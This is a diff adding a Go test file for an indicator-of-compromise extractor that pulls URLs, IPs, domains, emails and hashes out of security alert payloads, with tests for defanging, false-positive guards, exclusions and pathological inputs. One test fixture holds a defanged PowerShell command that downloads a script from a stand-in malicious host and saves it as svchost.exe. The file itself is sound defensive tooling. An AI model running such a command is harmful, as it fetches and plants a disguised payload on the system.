@@ -1,0 +1,176 @@
+package indicators
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/require"
+)
+
+func pass4(t testing.TB, raw map[string]any, ex *Exclusions) ExtractionResult {
+	t.Helper()
+	return ExtractWith(nil, raw, "generic", nil, nil, Options{Pass4: true, Exclusions: ex})
+}
+
+func has(res ExtractionResult, typ Type, value string) bool {
+	for _, ind := range res.Indicators {
+		if ind.Type == typ && ind.Value == value {
+			return true
+		}
+	}
+	return false
+}
+
+func values(res ExtractionResult) []string {
+	out := []string{}
+	for _, ind := range res.Indicators {
+		out = append(out, string(ind.Type)+":"+ind.Value)
+	}
+	return out
+}
+
+func TestPass4FindsEveryKindInFreeText(t *testing.T) {
+	t.Parallel()
+	raw := mustJSON(t, `{
+		"process": {"command_line": "powershell iwr hxxps://evil[.]com/a.ps1 -OutFile C:\\Users\\x\\svchost.exe & ping 8.8.8.8:53"},
+		"desc": "From 203.0.113.7 to evil[dot]org (mail bob[at]Contoso.com), sha256:E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855.",
+		"Entities": [{"Address": "2001:db8::dead:beef"}, {"HostName": "ws-42.corp.contoso.com"}],
+		"hashes": "md5 d41d8cd98f00b204e9800998ecf8427e sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709",
+		"defanged": "hxxp://198.51.100[.]4[:]8080/x and ftp://files.example.net/y"
+	}`)
+	res := pass4(t, raw, nil)
+	require.ElementsMatch(t, []string{
+		"url:https://evil.com/a.ps1", "ip:8.8.8.8", "ip:203.0.113.7", "domain:evil.org", "email:bob@contoso.com",
+		"hash_sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
+		"ip:2001:db8::dead:beef", "domain:ws-42.corp.contoso.com", "hash_md5:d41d8cd98f00b204e9800998ecf8427e",
+		"hash_sha1:da39a3ee5e6b4b0d3255bfef95601890afd80709", "url:http://198.51.100.4:8080/x", "url:ftp://files.example.net/y",
+	}, values(res))
+	require.Equal(t, res.Indicators, res.Pass4)
+	for i, ind := range res.Indicators {
+		if ind.Value == "2001:db8::dead:beef" {
+			require.Equal(t, []Origin{{Pass: 4, FieldPath: "Entities.0.Address"}}, res.ExtractedBy[i])
+		}
+	}
+}
+
+func TestPass4Guards(t *testing.T) {
+	t.Parallel()
+	cases := []struct{ name, payload string }{
+		{"reference keys", `{"alertLink": "https://evil.example.com/x", "results_link": "http://203.0.113.1/r",
+			"portal_url": "https://evil.example.com/p", "alertWebUrl": "https://evil.example.com/w",
+			"references": ["https://evil.example.com/ref"], "$schema": "https://evil.example.com/s",
+			"@odata.context": "https://evil.example.com/o", "documentation": "see evil.example.com",
+			"links": {"self": "https://evil.example.com/l"}}`},
+		{"file names are not domains", `{"msg": "svchost.exe dropped report.pdf, invoice.docx and run.ps1 from a.zip"}`},
+		{"internal names are not domains", `{"host": "WIN-DC01.contoso.local", "dn": "srv.corp", "i": "x.internal"}`},
+		{"field names are not domains", `{"query": "process.name : cmd and user.name : x and host.id : y", "f": "CommandLine.Length"}`},
+		{"version strings are not IPs", `{"os_version": "10.0.1.1", "agent": {"build": "8.1.2.3"}, "m": "agent v1.2.3.4 started", "oid": "1.3.6.1"}`},
+		{"OIDs and numbers are not IPs", `{"s": "1.3.6.1.4.1.311.21.8 and 10.0.19041.1", "n": "16909060"}`},
+		{"GUIDs and ids are not hashes", `{"g": "b1f4c3a2-1234-4abc-9def-0123456789ab", "SystemAlertId": "2518312345678901234abcdefabcdef1",
+			"digits": "12345678901234567890123456789012", "word": "deadbeefdeadbeefdeadbeefdeadbeefx"}`},
+		{"hashes only at exact length", `{"h": "d41d8cd98f00b204e9800998ecf8427 d41d8cd98f00b204e9800998ecf8427e0"}`},
+		{"addresses that name no host", `{"a": "0.0.0.0 127.0.0.1 255.255.255.255 224.0.0.1 ::1 ::"}`},
+		{"times and MAC addresses are not IPv6", `{"t": "10:00:00 12:34:56.789", "mac": "00:1a:2b:3c:4d:5e"}`},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			res := pass4(t, mustJSON(t, c.payload), nil)
+			require.Empty(t, res.Indicators, "%v", values(res))
+		})
+	}
+}
+
+func TestPass4ExclusionsSparePass1(t *testing.T) {
+	t.Parallel()
+	ex := NewExclusions([]string{"portal.azure.com", "*.splunkcloud.com", "10.0.0.0/8", "192.0.2.1"})
+	raw := mustJSON(t, `{"u": "https://portal.azure.com/#x https://acme.splunkcloud.com/app", "ips": "10.1.2.3 192.0.2.1 192.0.2.2",
+		"d": "splunkcloud.com", "mail": "ops@splunkcloud.com"}`)
+	mappings := []Mapping{{FieldPath: "ips", Type: TypeIP, Target: TargetRawPayload}}
+	res := ExtractWith(nil, raw, "generic", []Indicator{{TypeIP, "10.9.9.9"}}, mappings, Options{Pass4: true, Exclusions: ex})
+	require.Equal(t, []string{"ip:10.9.9.9", "ip:192.0.2.2", "email:ops@splunkcloud.com"}, values(res))
+	require.Equal(t, 5, res.Scan.Excluded)
+}
+
+func TestPass4OriginsAcrossPasses(t *testing.T) {
+	t.Parallel()
+	raw := mustJSON(t, `{"result": {"src_ip": "203.0.113.9"}}`)
+	mappings := []Mapping{{FieldPath: "result.src_ip", Type: TypeIP, Target: TargetRawPayload}}
+	res := ExtractWith(map[string]any{FieldSrcIP: "203.0.113.9"}, raw, "splunk", []Indicator{{TypeIP, "203.0.113.9"}},
+		append(systemMappings(t), mappings...), Options{Pass4: true})
+	require.Equal(t, []Indicator{{TypeIP, "203.0.113.9"}}, res.Indicators)
+	require.Equal(t, [][]Origin{{{1, ""}, {2, "src_ip"}, {3, "result.src_ip"}, {4, "result.src_ip"}}}, res.ExtractedBy)
+	// Without the option, pass 4 does not run (ingestion).
+	require.Empty(t, Extract(nil, raw, "splunk", nil, nil).Pass4)
+}
+
+func TestParseExclusion(t *testing.T) {
+	t.Parallel()
+	for in, want := range map[string]string{"Portal.Azure.com.": "portal.azure.com", "*.SplunkCloud.com": "*.splunkcloud.com",
+		"10.1.2.3/8": "10.0.0.0/8", "::ffff:192.0.2.1": "192.0.2.1", "2001:db8::/32": "2001:db8::/32"} {
+		got, err := ParseExclusion(in)
+		require.NoError(t, err, in)
+		require.Equal(t, want, got)
+	}
+	for _, bad := range []string{"", " ", "a.*.com", "10.0.0.0/33", "not a host", "fe80::1%eth0", strings.Repeat("a", 300)} {
+		_, err := ParseExclusion(bad)
+		require.Error(t, err, bad)
+	}
+}
+
+// pathological payloads of issue 43: each finishes within the budget, with bounded output.
+func pathological(t testing.TB) map[string]map[string]any {
+	t.Helper()
+	big := make(map[string]any, 50_000)
+	for i := range 50_000 {
+		big[fmt.Sprintf("k%05d", i)] = fmt.Sprintf("value %d host-%d.example.com 10.%d.%d.1", i, i, i/256%256, i%256)
+	}
+	deep := any("203.0.113.1")
+	for range 5000 {
+		deep = map[string]any{"a": []any{deep}}
+	}
+	var ips strings.Builder
+	for i := range 10_000 {
+		fmt.Fprintf(&ips, "198.%d.%d.%d ", i/65536%256, i/256%256, i%256)
+	}
+	return map[string]map[string]any{
+		"50000 strings":       big,
+		"5000-deep nesting":   {"deep": deep, "z": "203.0.113.2"},
+		"10000 IPs one field": {"ips": ips.String()},
+		"invalid UTF-8":       {"s": "\xff\xfe evil.com \xc3\x28 203.0.113.5 \xed\xa0\x80"},
+		"1M dots":             {"dots": strings.Repeat(".", 1<<20)},
+	}
+}
+
+func TestPass4Pathological(t *testing.T) {
+	for name, raw := range pathological(t) {
+		t.Run(name, func(t *testing.T) {
+			start := time.Now()
+			res := ExtractWith(nil, raw, "generic", nil, nil, Options{Pass4: true})
+			took := time.Since(start)
+			require.LessOrEqual(t, len(res.Indicators), MaxExtracted)
+			require.Less(t, took, 2*time.Second, "%s took %s", name, took)
+			t.Logf("%s: %d indicators, %+v, %s", name, len(res.Indicators), res.Scan, took)
+		})
+	}
+	res := ExtractWith(nil, pathological(t)["5000-deep nesting"], "generic", nil, nil, Options{Pass4: true})
+	require.Contains(t, res.Scan.Stopped, "nesting deeper")
+	require.Equal(t, []string{"ip:203.0.113.2"}, values(res), "the rest of the payload is still scanned")
+	res = ExtractWith(nil, pathological(t)["invalid UTF-8"], "generic", nil, nil, Options{Pass4: true})
+	require.Equal(t, []string{"domain:evil.com", "ip:203.0.113.5"}, values(res))
+	res = ExtractWith(nil, pathological(t)["50000 strings"], "generic", nil, nil, Options{Pass4: true})
+	require.NotEmpty(t, res.Scan.Stopped)
+	require.True(t, res.Truncated)
+}
+
+func BenchmarkPass4Pathological(b *testing.B) {
+	for name, raw := range pathological(b) {
+		b.Run(strings.ReplaceAll(name, " ", "_"), func(b *testing.B) {
+			b.ReportAllocs()
+			for b.Loop() {
+				ExtractWith(nil, raw, "generic", nil, nil, Options{Pass4: true})
+			}
+		})
+	}
+}
